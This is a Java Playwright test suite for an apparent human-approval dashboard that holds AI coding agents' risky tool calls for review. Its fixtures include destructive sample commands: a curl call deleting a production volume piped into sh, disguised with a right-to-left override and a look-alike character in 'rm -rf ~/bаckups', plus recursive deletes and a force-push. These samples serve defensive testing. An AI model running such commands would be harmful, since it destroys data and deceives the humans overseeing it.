package dev.countersign.ui;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.BrowserContext;
import com.microsoft.playwright.Locator;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.Page.GetByRoleOptions;
import com.microsoft.playwright.options.AriaRole;
import com.microsoft.playwright.options.ColorScheme;
import dev.countersign.approval.api.ApprovalStatus;
import dev.countersign.approval.api.ApprovalView;
import dev.countersign.approval.api.Ballot;
import dev.countersign.approval.api.BypassOrder;
import dev.countersign.approval.api.BypassScope;
import dev.countersign.approval.api.Choice;
import dev.countersign.approval.api.FileTouch;
import dev.countersign.audit.api.EventView;
import dev.countersign.audit.api.SessionId;
import dev.countersign.platform.KeycloakResource;
import dev.countersign.ui.FakeServices.Asker;
import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.common.http.TestHTTPResource;
import io.quarkus.test.junit.QuarkusTest;
import java.time.Duration;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/** The pages in a real browser. Leaves pictures of all of them in {@code target/screenshots}. */
@QuarkusTest
@QuarkusTestResource(KeycloakResource.class)
@QuarkusTestResource(FakeServicesResource.class)
class BrowserTest {

    private static final Asker BOB =
            new Asker("bob", Set.of("approver", "on-call"), Set.of("approvers", "on-call"));

    private static Chromium browser;

    FakeServices services;

    @TestHTTPResource("/")
    String address;

    @BeforeAll
    static void start() {
        browser = Chromium.start();
    }

    @AfterAll
    static void stop() {
        browser.close();
    }

    @BeforeEach
    void empty() {
        services.empty();
        browser.complaints();
    }

    @Test
    void a_held_call_appears_by_itself_and_is_approved() {
        try (BrowserContext context = browser.context()) {
            Page page = browser.signedIn(context, address, "alice", "approvals");
            assertThat(page.getByText("Nothing is waiting")).isVisible();
            assertThat(page.locator("[data-live-dot].on")).isVisible();

            ApprovalView held = services.queue.put(Held.aRequest().by("dave").view());

            assertThat(page.getByText("Changes the dependencies in package.json")).isVisible();
            assertThat(page).hasTitle("(1) Approvals · Countersign");
            assertThat(page.locator("#spoken")).hasText("One call waits for you.");
            page.getByText("Changes the dependencies in package.json").click();
            page.locator("#reason").fill("Known publisher");
            page.getByRole(AriaRole.BUTTON, new GetByRoleOptions().setName("Approve")).click();

            assertThat(page.getByText("Approved by alice")).isVisible();
            assertThat(page.locator("form[data-vote]")).hasCount(0);
            assertThat(services.queue.stored(held.id()).status())
                    .isEqualTo(ApprovalStatus.APPROVED);
        }
        assertThat(browser.complaints()).isEmpty();
    }

    @Test
    void the_operator_sees_why_it_is_not_theirs_to_decide() {
        ApprovalView held = services.queue.put(Held.aRequest().by("dave").view());
        try (BrowserContext context = browser.context()) {
            Page page = browser.signedIn(context, address, "dave", "approvals/" + held.id());

            assertThat(page.getByText("never approve their own agents")).isVisible();
            assertThat(page.getByRole(AriaRole.BUTTON, new GetByRoleOptions().setName("Approve")))
                    .hasCount(0);
        }
    }

    @Test
    void a_denial_without_a_reason_is_stopped_before_it_is_sent() {
        ApprovalView held = services.queue.put(Held.aRequest().view());
        try (BrowserContext context = browser.context()) {
            Page page = browser.signedIn(context, address, "alice", "approvals/" + held.id());
            Locator deny = page.getByRole(AriaRole.BUTTON, new GetByRoleOptions().setName("Deny"));

            deny.click();

            assertThat(page.getByText("a denial needs a reason")).isVisible();
            assertThat(page.locator("#reason")).isFocused();
            assertThat(services.queue.stored(held.id()).status()).isEqualTo(ApprovalStatus.PENDING);

            page.locator("#reason").fill("Publisher unknown; use the registry's package");
            deny.click();

            assertThat(page.getByText("Denied by alice")).isVisible();
        }
        assertThat(browser.complaints()).isEmpty();
    }

    @Test
    void a_decision_made_elsewhere_reaches_the_open_page() {
        ApprovalView held = services.queue.put(Held.aRequest().view());
        try (BrowserContext context = browser.context()) {
            Page page = browser.signedIn(context, address, "alice", "approvals/" + held.id());
            assertThat(page.locator("form[data-vote]")).isVisible();

            services.queue.vote(BOB, held.id(), new Ballot(Choice.DENY, "Not today"));

            assertThat(page.getByText("Denied by bob")).isVisible();
            assertThat(page.locator("form[data-vote]")).hasCount(0);
        }
    }

    @Test
    void many_open_pages_share_one_connection() {
        try (BrowserContext context = browser.context()) {
            Page first = browser.signedIn(context, address, "alice", "approvals");
            for (int i = 0; i < 8; i++) {
                context.newPage().navigate(address + "approvals");
            }
            Page last = context.newPage();
            last.navigate(address + "approvals");
            assertThat(first.locator("[data-live-dot].on")).isVisible();

            services.queue.put(Held.aRequest().view());

            assertThat(last.getByText("Changes the dependencies in package.json")).isVisible();
            assertThat(services.listeners()).isEqualTo(1);
            first.close();
            services.queue.put(Held.aRequest().command("Deletes the cache", "rm -rf cache").view());

            assertThat(last.getByText("Deletes the cache")).isVisible();
        }
    }

    @Test
    void a_session_that_is_over_is_said_in_the_page() {
        try (BrowserContext context = browser.context()) {
            Page page = browser.signedIn(context, address, "alice", "approvals");
            assertThat(page.locator("[data-live-dot].on")).isVisible();
            context.clearCookies();

            services.queue.put(Held.aRequest().view());

            assertThat(page.getByText("Your session is over.")).isVisible();
            assertThat(page.locator("#kc-login")).hasCount(0);
        }
    }

    @Test
    void everything_is_reached_by_keyboard() {
        services.queue.put(Held.aRequest().view());
        try (BrowserContext context = browser.context()) {
            Page page = browser.signedIn(context, address, "alice", "approvals");

            page.keyboard().press("Tab");
            assertThat(page.locator(".skip")).isFocused();
            page.keyboard().press("Enter");
            page.keyboard().press("Tab");
            page.keyboard().press("Enter");
            assertThat(page.locator("form[data-vote]")).isVisible();
            page.locator("#reason").focus();
            page.keyboard().press("Tab");
            page.keyboard().press("Enter");

            assertThat(page.getByText("Approved by alice")).isVisible();
        }
    }

    @Test
    void the_theme_is_chosen_and_remembered() {
        try (BrowserContext context = browser.context()) {
            Page page = browser.signedIn(context, address, "alice", "approvals");

            page.locator("[data-theme-toggle]").click();

            assertThat(page.locator("html")).hasAttribute("data-theme", "dark");
            page.reload();
            assertThat(page.locator("html")).hasAttribute("data-theme", "dark");
        }
    }

    @Test
    void every_page_fits_a_phone_and_is_pictured_in_both_lights() {
        Map<String, String> pages = furnish();
        for (ColorScheme light : List.of(ColorScheme.LIGHT, ColorScheme.DARK)) {
            for (int width : List.of(1280, 375)) {
                picture(pages, light, width);
            }
        }
        assertThat(browser.complaints()).isEmpty();
    }

    private void picture(Map<String, String> pages, ColorScheme light, int width) {
        try (BrowserContext context = browser.context(light, width)) {
            Page page = browser.signedIn(context, address, "bob", "approvals");
            pages.forEach(
                    (name, path) -> {
                        page.navigate(address + path);
                        Chromium.picture(page, name, light, width);
                    });
            page.navigate(address + "sign-out");
            Chromium.picture(page, "signed-out", light, width);
        }
        try (BrowserContext context = browser.context(light, width)) {
            Page page = browser.signedIn(context, address, "erin", "agents");
            page.locator("#name")
                    .fill("assistant-%s-%d".formatted(light.name().toLowerCase(), width));
            page.locator("#operator").fill("dave");
            page.getByText("Register and show the key").click();
            page.getByText("Connect Claude Code").waitFor();
            Chromium.picture(page, "registered", light, width);
            page.navigate(address + "agents");
            Chromium.picture(page, "agents", light, width);
        }
        try (BrowserContext context = browser.context(light, width)) {
            Page page = browser.signedIn(context, address, "dave", pages.get("edit"));
            Chromium.picture(page, "refused", light, width);
            services.away("/v1");
            page.navigate(address + "approvals");
            Chromium.picture(page, "away", light, width);
            services.away();
        }
    }

    /** Something of everything, and the address of each page by its name. */
    private Map<String, String> furnish() {
        SessionId session = SessionId.next();
        tell(session);
        ApprovalView edit = services.queue.put(Held.aRequest().in(session).view());
        ApprovalView command =
                services.queue.put(
                        Held.aRequest()
                                .in(session)
                                .command(
                                        "Deletes a production volume and its backups through the provider's API",
                                        "curl -sS -X DELETE https://backboard.railway.example/graphql \\\n  -H \"Authorization: Bearer ████████\" \\\n  --data '{\"query\":\"mutation { volumeDelete(volumeId: \\\"vol_prod_1\\\") }\"}' | sh\u202e && rm -rf ~/bаckups",
                                        "net.egress",
                                        "cloud.volume.delete",
                                        "fs.delete.tree")
                                .touching(
                                        List.of(new FileTouch("/home/dave/bаckups", "delete")),
                                        List.of("backboard.railway.example"))
                                .rule(
                                        "no-volume-delete",
                                        "Deleting a volume needs two people, one of them from security",
                                        "Volumes hold the backups as well. Look for the ticket that asks for this.")
                                .needing(2, "approvers", "security-reviewers")
                                .left(Duration.ofSeconds(272))
                                .view());
        services.queue.put(
                Held.aRequest()
                        .by("bob")
                        .command(
                                "Publishes the package to the registry",
                                "npm publish --access public")
                        .rule("publish", "Publishing needs a human", "")
                        .left(Duration.ofMinutes(74))
                        .view());
        ApprovalView denied =
                services.queue.put(
                        Held.aRequest()
                                .command(
                                        "Rewrites the main branch",
                                        "git push --force origin main",
                                        "vcs.push.force")
                                .view());
        services.queue.vote(
                BOB,
                denied.id(),
                new Ballot(Choice.DENY, "Main is protected; open a pull request"));
        ApprovalView approved =
                services.queue.put(
                        Held.aRequest()
                                .command(
                                        "Restarts the staging database",
                                        "kubectl rollout restart sts/db")
                                .view());
        services.queue.vote(BOB, approved.id(), new Ballot(Choice.APPROVE, "Agreed with the team"));
        services.bypasses.ended();
        services.bypasses.live();
        services.bypasses.request(
                new Asker("heidi", Set.of("on-call"), Set.of()),
                new BypassOrder(
                        "Payments queue is stuck; the consumer must be restarted by hand",
                        Optional.of("INC-4712"),
                        new BypassScope(
                                List.of(),
                                List.of("kubectl rollout restart *"),
                                List.of("*.internal.example.com"),
                                List.of("code-assistant-prod")),
                        Duration.ofHours(1),
                        Optional.empty()));
        EventView event = services.log.search(BOB, Map.of()).items().getLast();
        Map<String, String> pages = new LinkedHashMap<>();
        pages.put("queue", "approvals");
        pages.put("edit", "approvals/" + edit.id());
        pages.put("command", "approvals/" + command.id());
        pages.put("denied", "approvals/" + denied.id());
        pages.put("bypasses", "bypasses");
        pages.put("events", "events");
        pages.put("event", "events/" + event.id());
        pages.put("nothing", "events?q=nowhere&operator=dave");
        pages.put("missing", "approvals/apr_01kahd2x5j7e1v3qz8s9tbcdfg");
        return pages;
    }

    private void tell(SessionId session) {
        services.log.add(
                "session.started",
                session,
                Map.of("client", "claude-code"),
                Map.of("context", Map.of("cwd", "/home/dave/app")));
        decided(session, "Read", "allow", Map.of("file_path", "/home/dave/app/README.md"));
        decided(session, "Bash", "allow", Map.of("command", "npm test -- --watch=false"));
        services.log.add(
                "result.reported",
                session,
                Map.of("tool", "Bash", "succeeded", true, "duration_millis", 8123),
                Map.of("output", Map.of("output", Map.of("stdout", "42 passing"))));
        decided(session, "Bash", "deny", Map.of("command", "rm -rf /tmp/cache ~/.npm"));
        decided(
                session,
                "Edit",
                "require_approval",
                Map.of("file_path", "/home/dave/app/package.json"));
    }

    private void decided(
            SessionId session, String tool, String effect, Map<String, Object> arguments) {
        services.log.add(
                "decision.made",
                session,
                Map.of(
                        "tool",
                        tool,
                        "effect",
                        effect,
                        "mode",
                        "enforce",
                        "rules",
                        "package-manifest"),
                Map.of(
                        "input", Map.of("arguments", arguments, "cwd", "/home/dave/app"),
                        "actor", Map.of("operator", "dave", "agent_name", "code-assistant-prod"),
                        "reason", Map.of("text", "Matched the rule package-manifest.")));
    }
}
